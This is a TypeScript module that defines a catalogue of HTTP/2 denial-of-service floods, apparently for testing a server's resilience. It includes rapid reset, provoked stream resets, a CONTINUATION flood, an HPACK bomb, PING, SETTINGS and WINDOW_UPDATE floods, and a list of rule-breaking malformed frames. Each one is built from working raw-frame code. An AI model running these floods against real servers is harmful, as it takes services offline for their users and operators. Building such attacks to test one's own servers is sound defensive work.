/**
 * Defines attacks that send many frames. Each frame has only a few bytes, but makes the server do work or keep state.
 */
import type { Attack, Attacker } from "./attack.ts";
import {
  END_HEADERS,
  END_STREAM,
  frame,
  many,
  PADDED,
  type RawConnection,
  setting,
  Type,
  word,
} from "./raw-connection.ts";
import { FORBIDDEN_HEADS, fields, head, INDEXED } from "./requests.ts";

const CONNECTIONS = 4;
const CANCEL = 8;
const INITIAL_WINDOW_SIZE = 4;
const HEADER_TABLE_SIZE = 1;
const MAX_WINDOW = 0x7fff_ffff;

/** Returns an attack whose steps open `count` streams each. `make` returns the frames of one stream. */
function perStream(count: number, make: (attacker: Attacker, stream: number) => readonly Uint8Array[]): Attack {
  return (attacker) =>
    attacker.flood(CONNECTIONS, (connection) =>
      connection.send(many(count, () => Buffer.concat(make(attacker, connection.stream())))),
    );
}

/** Returns an attack whose steps send `count` frames each. `make` returns one frame. */
function perConnection(count: number, make: (index: number) => Uint8Array): Attack {
  return (attacker) => attacker.flood(CONNECTIONS, (connection) => connection.send(many(count, make)));
}

/** Returns an attack whose steps begin a call and send `count` frames as its body. */
function perBody(count: number, make: (stream: number) => Uint8Array): Attack {
  return (attacker) =>
    attacker.flood(CONNECTIONS, (connection) => {
      const stream = connection.stream();
      return connection.send(
        attacker.begin(stream, "EncryptSingle"),
        many(count, () => make(stream)),
      );
    });
}

/** Returns an attack on `count` connections whose steps send one header block each. */
function perBlock(
  count: number,
  make: (attacker: Attacker, connection: RawConnection) => readonly Uint8Array[],
): Attack {
  return (attacker) => attacker.flood(count, (connection) => connection.send(...make(attacker, connection)));
}

/**
 * Each of these frames is an error, for which the server must end the connection or reset a stream. Each is sent on a
 * connection that has one open stream.
 */
const BREACHES: readonly ((stream: number) => Uint8Array)[] = [
  () => frame(Type.data, 0, 0, Buffer.alloc(1)),
  (stream) => frame(Type.data, 0, stream + 100, Buffer.alloc(1)),
  () => frame(Type.headers, END_HEADERS, 2, head("GenerateRandom")),
  (stream) => frame(Type.data, PADDED, stream, Buffer.of(255, 1)),
  (stream) => frame(Type.headers, END_HEADERS | PADDED, stream + 2, Buffer.of(255, 1)),
  (stream) => frame(Type.priority, 0, stream, Buffer.alloc(4)),
  (stream) => frame(Type.priority, 0, stream, word(stream)),
  (stream) => frame(Type.reset, 0, stream, Buffer.alloc(3)),
  (stream) => frame(Type.reset, 0, stream + 100, word(CANCEL)),
  () => frame(Type.settings, 0, 0, Buffer.alloc(5)),
  () => frame(Type.settings, 1, 0, Buffer.alloc(6)),
  () => frame(Type.settings, 0, 1),
  () => frame(Type.settings, 0, 0, setting(INITIAL_WINDOW_SIZE, 0xffff_ffff)),
  () => frame(Type.push, END_HEADERS, 1, word(2)),
  () => frame(Type.ping, 0, 0, Buffer.alloc(7)),
  () => frame(Type.ping, 0, 1, Buffer.alloc(8)),
  () => frame(Type.goaway, 0, 0, Buffer.alloc(7)),
  () => frame(Type.windowUpdate, 0, 0, word(0)),
  (stream) => frame(Type.windowUpdate, 0, stream, Buffer.alloc(3)),
  (stream) => frame(Type.continuation, END_HEADERS, stream),
  (stream) => Buffer.concat([frame(Type.headers, 0, stream + 2, head("GenerateRandom")), frame(Type.ping, 0, 0)]),
  () => Buffer.concat([Buffer.of(0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1), Buffer.alloc(1000)]),
  (stream) => frame(Type.headers, END_HEADERS, stream + 2, Buffer.alloc(10, 0xff)),
  (stream) => Buffer.concat([frame(Type.reset, 0, stream, word(CANCEL)), frame(Type.data, 0, stream, Buffer.alloc(1))]),
];

/** The floods by name. */
export const FLOODS: Readonly<Record<string, Attack>> = {
  "rapid reset": perStream(300, (attacker, stream) => [
    attacker.begin(stream, "GenerateRandom"),
    frame(Type.reset, 0, stream, word(CANCEL)),
  ]),
  "provoked reset: WINDOW_UPDATE of 0": perStream(100, (attacker, stream) => [
    attacker.begin(stream, "GenerateRandom"),
    frame(Type.windowUpdate, 0, stream, word(0)),
  ]),
  "provoked reset: too large a window": perStream(100, (attacker, stream) => [
    attacker.begin(stream, "GenerateRandom"),
    frame(Type.windowUpdate, 0, stream, word(MAX_WINDOW)),
  ]),
  "provoked reset: DATA after END_STREAM": perStream(100, (attacker, stream) => [
    attacker.begin(stream, "GenerateRandom", END_HEADERS | END_STREAM),
    frame(Type.data, 0, stream, Buffer.alloc(100)),
  ]),
  "provoked reset: PRIORITY of a wrong size": perStream(100, (attacker, stream) => [
    attacker.begin(stream, "GenerateRandom"),
    frame(Type.priority, 0, stream, Buffer.alloc(4)),
  ]),
  "CONTINUATION without end": perBlock(CONNECTIONS, (_, connection) => {
    const stream = connection.stream();
    const more = frame(Type.continuation, 0, stream, fields([["x", "y"]]));
    return [frame(Type.headers, 0, stream, head("GenerateRandom")), many(1_000, () => more)];
  }),
  "header list without end": perBlock(CONNECTIONS, (_, connection) => {
    const stream = connection.stream();
    const field = fields([["x", "y".repeat(100)]]);
    const more = frame(
      Type.continuation,
      0,
      stream,
      many(150, () => field),
    );
    return [frame(Type.headers, 0, stream, head("GenerateRandom")), many(20, () => more)];
  }),
  "HPACK bomb": perBlock(CONNECTIONS, (attacker, connection) => {
    const large = fields([["x", "a".repeat(4_000)]], INDEXED);
    const block = Buffer.concat([head("GenerateRandom", attacker.credentials), large, Buffer.alloc(8_000, 0xbe)]);
    return [frame(Type.headers, END_HEADERS, connection.stream(), block)];
  }),
  "zero-length header fields": perBlock(CONNECTIONS, (attacker, connection) => {
    const empty = many(4_000, () => fields([["", ""]]));
    const block = Buffer.concat([head("GenerateRandom", attacker.credentials), empty]);
    return [frame(Type.headers, END_HEADERS, connection.stream(), block)];
  }),
  PING: perConnection(2_000, () => frame(Type.ping, 0, 0, Buffer.alloc(8))),
  SETTINGS: perConnection(2_000, (index) => frame(Type.settings, 0, 0, setting(INITIAL_WINDOW_SIZE, index))),
  "SETTINGS that resize the HPACK table": perConnection(500, () =>
    frame(
      Type.settings,
      0,
      0,
      many(60, (index) => setting(HEADER_TABLE_SIZE, index % 2 === 0 ? 0 : 4_096)),
    ),
  ),
  PRIORITY: perConnection(2_000, () => frame(Type.priority, 0, 101, Buffer.alloc(5))),
  "WINDOW_UPDATE of 1": perConnection(2_000, () => frame(Type.windowUpdate, 0, 0, word(1))),
  "unknown frames": perConnection(2_000, () => frame(0xbb, 0xff, 0, Buffer.alloc(8))),
  "empty DATA": perBody(2_000, (stream) => frame(Type.data, 0, stream)),
  "DATA of 1 byte": perBody(2_000, (stream) => frame(Type.data, 0, stream, Buffer.alloc(1))),
  "DATA of 64 bytes": perBody(800, (stream) => frame(Type.data, 0, stream, Buffer.alloc(64))),
  "padded DATA": perBody(100, (stream) => frame(Type.data, PADDED, stream, Buffer.alloc(256, 255).fill(0, 1))),
  "streams beyond the limit": perStream(300, (attacker, stream) => [attacker.begin(stream, "GenerateRandom")]),
  "requests for unknown paths": perStream(50, (attacker, stream) => [
    attacker.begin(stream, "/nope", END_HEADERS | END_STREAM),
  ]),
  "forbidden heads": (attacker) =>
    attacker.flood(CONNECTIONS, (connection) =>
      connection.send(
        ...FORBIDDEN_HEADS.map((block) => frame(Type.headers, END_HEADERS | END_STREAM, connection.stream(), block)),
      ),
    ),
  "frames that break a rule": (attacker) => {
    let turn = 0;
    return attacker.flood(CONNECTIONS, (connection) => {
      const stream = connection.stream();
      return connection.send(attacker.begin(stream, "EncryptSingle"), BREACHES[turn++ % BREACHES.length]!(stream));
    });
  },
  "GOAWAY, then requests": perBlock(CONNECTIONS, (attacker, connection) => [
    frame(Type.goaway, 0, 0, Buffer.alloc(8)),
    many(50, () => attacker.begin(connection.stream(), "GenerateRandom", END_HEADERS | END_STREAM)),
  ]),
};
